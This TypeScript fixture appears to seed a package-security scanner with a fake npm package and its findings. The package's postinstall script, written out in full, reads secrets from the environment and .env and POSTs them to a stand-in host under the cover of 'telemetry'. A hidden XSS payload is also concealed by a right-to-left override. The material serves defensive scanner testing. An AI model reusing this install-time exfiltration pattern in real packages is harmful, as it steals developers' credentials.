import type { Evidence } from '../../src/model/finding.ts'
import { hit, npmFile, type Seed } from './seed.ts'

/** Inert: lines to show, never files to run. The hosts exist nowhere. */
export function envStealer(now: Date): Seed {
  return {
    artifact: npmFile('colour-strings', '4.2.1'),
    registry: 'npm',
    findings: [
      {
        check: 'secrets-egress',
        severity: 'critical',
        confidence: 'high',
        message:
          'reads secrets from the environment and from .env, and sends them to collect.telemetry.invalid at install',
        evidence: [
          {
            role: 'trigger',
            path: 'package.json',
            line: 12,
            column: 5,
            note: 'postinstall runs node scripts/telemetry.js',
            snippet: {
              firstLine: 10,
              lines: [
                '  "scripts": {',
                '    "test": "node --test",',
                '    "postinstall": "node scripts/telemetry.js"',
                '  },',
                '  "engines": {',
              ],
            },
          },
          at(9, 'source', 22, 'reads process.env by /KEY|TOKEN|SECRET|DATABASE_URL/'),
          at(13, 'source', 40, 'reads the file .env'),
          at(18, 'sink', 11, 'sends it by fetch to collect.telemetry.invalid'),
        ],
      },
      {
        check: 'obfuscation',
        severity: 'medium',
        confidence: 'medium',
        message: 'hides text behind a right-to-left override and zero-width characters',
        evidence: [
          {
            role: 'subject',
            path: 'lib/ansi.js',
            line: 41,
            column: 18,
            note: 'U+202E turns the rest of the line around',
            snippet: {
              firstLine: 39,
              lines: [
                'function paint(text, code) {',
                '  // reset at the end of each line',
                "  const reset = '\u202E[m0\\' // \u200B<img src=x onerror=alert(1)>",
                '  return code + text + reset',
                '}',
              ],
            },
          },
        ],
      },
    ],
    surface: [
      {
        path: 'scripts/telemetry.js',
        startedBy: ['package.json scripts.postinstall', 'node scripts/telemetry.js'],
        moment: 'install',
        capabilities: ['env', 'secrets', 'network'],
      },
      { path: 'index.js', startedBy: ['package.json main'], moment: 'import', capabilities: [] },
    ],
    capabilities: ['env', 'secrets', 'network'],
    installScripts: { postinstall: 'node scripts/telemetry.js' },
    files: [
      ['package.json', 1120],
      ['README.md', 5210],
      ['LICENSE', 1068],
      ['index.js', 1740],
      ['index.d.ts', 890],
      ['lib/ansi.js', 3980],
      ['lib/palette.js', 7420],
      ['lib/detect/terminal.js', 2310],
      ['lib/detect/browser.js', 640],
      ['scripts/telemetry.js', 702],
      ['docs/demo.mp4', 9_420_113],
    ],
    hits: [
      hit(
        'secrets-egress',
        'quarantine',
        'adds a postinstall script that reads secrets from the environment and .env and sends them to a host never seen in this package',
        'Reading secrets and opening a connection in one install script is how credentials are stolen.',
      ),
      hit(
        'new-install-script',
        'quarantine',
        'runs a new postinstall script at install',
        'An install script runs beside your secrets.',
      ),
      hit(
        'cooldown',
        'hold',
        'published 9 hours ago, less than 72 hours',
        'Most hijacked releases are found within three days.',
        {
          until: new Date(now.getTime() + 63 * 3_600_000).toISOString(),
        },
      ),
      hit('single-maintainer', 'warn', 'has one maintainer', 'One stolen account is enough.'),
    ],
    askedBy: [
      ['10.0.7.21', 'npm/11.6.0 node/v24.11.0 linux x64 workspaces/false ci/github-actions'],
      ['10.0.3.114', 'npm/11.6.0 node/v22.20.0 darwin arm64'],
      [
        '10.0.3.114',
        'Mozilla/5.0',
        'The new release fixes the colours of our CLI on Windows. We need it for Thursday.',
        'maria@acme.example',
      ],
    ],
    openedMinutesAgo: 42,
  }
}

const TELEMETRY = [
  "'use strict'",
  "const fs = require('node:fs')",
  "const path = require('node:path')",
  '',
  'const WANTED = /KEY|TOKEN|SECRET|DATABASE_URL/',
  '',
  'async function report() {',
  '  const found = {}',
  '  for (const name of Object.keys(process.env)) {',
  '    if (WANTED.test(name)) found[name] = process.env[name]',
  '  }',
  "  const file = path.join(process.env.INIT_CWD ?? '.', '.env')",
  "  found.dotenv = fs.existsSync(file) ? fs.readFileSync(file, 'utf8') : ''",
  '',
  '  // anonymous usage statistics',
  "  const body = Buffer.from(JSON.stringify(found)).toString('base64')",
  '  try {',
  "    await fetch('https://collect.telemetry.invalid/v1/usage', { method: 'POST', body })",
  '  } catch {}',
  '}',
  '',
  'report()',
]

function at(line: number, role: Evidence['role'], column: number, note: string): Evidence {
  const snippet = { firstLine: line - 3, lines: TELEMETRY.slice(line - 4, line + 3) }
  return { role, path: 'scripts/telemetry.js', line, column, note, snippet }
}
